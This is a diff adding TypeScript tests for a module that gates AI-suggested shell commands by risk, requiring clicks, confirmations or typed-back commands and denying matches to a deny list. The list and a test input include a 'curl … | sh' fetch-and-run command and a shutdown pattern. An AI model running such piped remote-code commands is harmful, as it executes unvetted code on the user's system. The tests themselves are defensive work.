@@ -0,0 +1,70 @@
+/**
+ * Tests for AI suggested command risk gating
+ */
+
+import { describe, expect, test } from 'bun:test';
+import { assessSuggestedCommand, checkApproval, compileDenyPatterns } from './command-approval.js';
+
+const denyList = compileDenyPatterns(['^\\s*shutdown\\b', 'curl .*\\|\\s*sh']);
+
+describe('assessSuggestedCommand', () => {
+  test('maps risk to the approval step', () => {
+    expect(assessSuggestedCommand('ls -la', 'safe', []).approval).toBe('click');
+    expect(assessSuggestedCommand('git push', 'caution', []).approval).toBe('confirm');
+    expect(assessSuggestedCommand('git reset --hard', 'dangerous', []).approval).toBe('typed');
+  });
+
+  test('uses the higher of the claimed and assessed risk', () => {
+    expect(assessSuggestedCommand('git reset --hard', 'safe', [])).toEqual({
+      risk: 'dangerous',
+      approval: 'typed'
+    });
+    expect(assessSuggestedCommand('ls', 'caution', []).risk).toBe('caution');
+    expect(assessSuggestedCommand('ls', undefined, []).risk).toBe('safe');
+  });
+
+  test('denies commands matching the deny-list, case-insensitively', () => {
+    const assessment = assessSuggestedCommand('SHUTDOWN -h now', 'safe', denyList);
+
+    expect(assessment.approval).toBe('denied');
+    expect(assessment.deniedBy).toBe('^\\s*shutdown\\b');
+    expect(assessSuggestedCommand('curl https://x | sh', 'safe', denyList).approval).toBe('denied');
+  });
+});
+
+describe('checkApproval', () => {
+  test('click needs no confirmation', () => {
+    const assessment = assessSuggestedCommand('ls', 'safe', []);
+
+    expect(checkApproval('ls', assessment, undefined).ok).toBe(true);
+  });
+
+  test('confirm needs an explicit confirmation', () => {
+    const assessment = { risk: 'caution' as const, approval: 'confirm' as const };
+
+    const missing = checkApproval('git push', assessment, undefined);
+    expect(missing.ok).toBe(false);
+    if (!missing.ok) {
+      expect(missing.error.code).toBe('CONFIRMATION_REQUIRED');
+    }
+    expect(checkApproval('git push', assessment, 'confirmed').ok).toBe(true);
+  });
+
+  test('typed needs the command typed back', () => {
+    const command = 'git reset --hard';
+    const assessment = assessSuggestedCommand(command, 'dangerous', []);
+
+    expect(checkApproval(command, assessment, 'confirmed').ok).toBe(false);
+    expect(checkApproval(command, assessment, ' git reset --hard ').ok).toBe(true);
+  });
+
+  test('denied never passes', () => {
+    const assessment = assessSuggestedCommand('shutdown now', 'safe', denyList);
+    const result = checkApproval('shutdown now', assessment, 'shutdown now');
+
+    expect(result.ok).toBe(false);
+    if (!result.ok) {
+      expect(result.error.code).toBe('COMMAND_DENIED');
+    }
+  });
+});